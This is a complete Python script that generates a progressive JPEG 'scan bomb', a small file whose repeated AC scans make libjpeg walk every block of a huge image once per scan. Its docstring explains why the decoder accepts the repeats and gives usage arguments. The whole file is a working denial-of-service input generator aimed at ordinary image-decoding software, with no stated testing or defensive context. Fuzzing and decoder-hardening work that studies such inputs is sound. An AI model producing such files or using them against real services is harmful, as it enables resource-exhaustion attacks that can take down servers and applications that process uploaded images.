#!/usr/bin/env python3
"""Progressive JPEG scan bomb: a WxH grayscale progressive JPEG whose one DC scan is followed
by N identical first-pass AC scans (Ss=1 Se=63 Ah=0 Al=0) made only of EOBRUN=32767 codes.
libjpeg accepts each repeat silently (Ah=0 matches coef_bits=0 after an Al=0 scan) and walks
every block of the image once per scan. ~100 bytes a scan at 10000x10000.
usage: mkjpegbomb.py OUT W H SCANS [comps]"""
import struct, sys, math
out, W, H, N = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
NC = int(sys.argv[5]) if len(sys.argv) > 5 else 1

def seg(marker, body): return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body
class Bits:
    def __init__(s): s.bits = []
    def put(s, v, n):
        for i in range(n - 1, -1, -1): s.bits.append((v >> i) & 1)
    def bytes(s):
        b = s.bits + [1] * (-len(s.bits) % 8)
        out = bytearray()
        for i in range(0, len(b), 8):
            v = int("".join(map(str, b[i:i+8])), 2)
            out.append(v)
            if v == 0xFF: out.append(0)
        return bytes(out)

j = bytearray(b"\xFF\xD8")
j += seg(0xDB, b"\x00" + b"\x01" * 64)
comps = b"".join(bytes([c + 1, 0x11, 0]) for c in range(NC))
j += seg(0xC2, bytes([8]) + struct.pack(">HH", H, W) + bytes([NC]) + comps)
j += seg(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00")     # DC: one code '0' -> category 0
j += seg(0xC4, b"\x10" + bytes([1] + [0] * 15) + b"\xE0")     # AC: one code '0' -> EOB14
blocks = math.ceil(W / 8) * math.ceil(H / 8)
# DC first scan, all components interleaved (1x1 sampling: one block each per MCU)
j += seg(0xDA, bytes([NC]) + b"".join(bytes([c + 1, 0]) for c in range(NC)) + b"\x00\x00\x00")
b = Bits()
for _ in range(blocks * NC): b.put(0, 1)
j += b.bytes()
b = Bits()
for _ in range(math.ceil(blocks / 32767)): b.put(0, 1); b.put(0x3FFF, 14)
ac = b.bytes()
for i in range(N):
    c = i % NC + 1
    j += seg(0xDA, bytes([1, c, 0, 1, 63, 0])) + ac
j += b"\xFF\xD9"
open(out, "wb").write(j)
print(out, len(j), "bytes,", blocks, "blocks/comp,", N, "AC scans")
